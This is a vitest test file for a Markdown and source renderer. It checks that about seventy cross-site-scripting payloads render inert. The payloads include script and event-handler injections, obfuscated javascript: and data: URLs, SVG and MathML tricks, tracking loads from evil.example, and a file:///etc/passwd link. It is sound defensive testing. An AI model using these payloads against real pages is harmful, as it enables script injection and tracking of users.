import { describe, expect, it } from 'vitest';
import { renderMarkdown, renderSource } from './render';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(2)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<input type="image" src="javascript:alert(1)">',
  '<button onclick=alert(1)>x</button>',
  '<body onload=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT:alert`1`)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x](https://evil.example/track.png)',
  '<img src="https://evil.example/track.png" srcset="https://evil.example/2.png 2x">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="x" onmouseover="alert(1)">x</p>',
  '`a` <b id=location name=createElement onclick=alert(1)>x</b>',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '$\\href{javascript:alert(1)}{x}$ $\\htmlData{x=y}{z}$ $\\url{javascript:alert(1)}$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '$</span><img src=x onerror=alert(1)>$',
  'Term\n: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '# <img src=x onerror=alert(1)> {#"><script>alert(1)</script>}',
  '[x](a.md){onclick="alert(1)"}',
  "![x](a.png){alt='\"><script>alert(1)</script>'}",
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
];

/** Tags with their attributes as a browser would see them; text and KaTeX's own markup aside. */
const tagsOf = (html: string) =>
  [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*>/gi)].map(
    ([, name = '', attributes = '']) => ({ name: name.toLowerCase(), attributes }),
  );

const FORBIDDEN =
  /^(?:script|style|iframe|object|embed|form|button|base|link|meta|svg|video|audio|marquee|template|noscript|textarea|body|xmp|select|frame)$/;

function expectInert(html: string): void {
  expect(html).not.toMatch(/<!--|<!\[/);
  for (const { name, attributes } of tagsOf(html)) {
    expect(name).not.toMatch(FORBIDDEN);
    expect(attributes).not.toMatch(/\son[a-z]+=/i);
    for (const [, address = ''] of attributes.matchAll(/\s(?:href|src|action|data|srcset|poster)="([^"]*)"/gi)) {
      expect(address).toMatch(/^(?:https?:|mailto:|\/files\/|#)/);
      if (/\ssrc=/.test(attributes)) expect(address).toMatch(/^\/files\//);
    }
    if (!/--shiki|^$/.test(attributes) && /\sstyle=/.test(attributes))
      expect(attributes).not.toMatch(/position:fixed|url\(/);
  }
  // Every other "<" must be text.
  expect(html.replace(/<\/?[a-z][a-z0-9]*(?:\s+[^\s=>"]+(?:="[^"]*")?)*\s*>/gi, '')).not.toContain('<');
}

describe('hostile Markdown', () => {
  const resolveUrl = (url: string) => `/files/${encodeURIComponent(url)}`;

  it.each(PAYLOADS)('%j renders inert', async (payload) => {
    for (const text of [
      payload,
      `Before ${payload} after`,
      `- item\n\n  ${payload.replace(/\n/g, '\n  ')}`,
      `> ${payload.replace(/\n/g, '\n> ')}`,
    ]) {
      expectInert(await renderMarkdown(text, { resolveUrl }));
      expectInert(await renderSource(text, { resolveUrl, path: 'a.md' }));
    }
  });

  it('keeps the harmless part', async () => {
    const html = await renderMarkdown(
      'A <b onclick=alert(1)>bold</b> <kbd>Ctrl</kbd> H<sub>2</sub>O <script>x</script>word <u>under</u>',
    );
    expect(html).toBe('<p>A <b>bold</b> <kbd>Ctrl</kbd> H<sub>2</sub>O word <u>under</u></p>');
  });
});
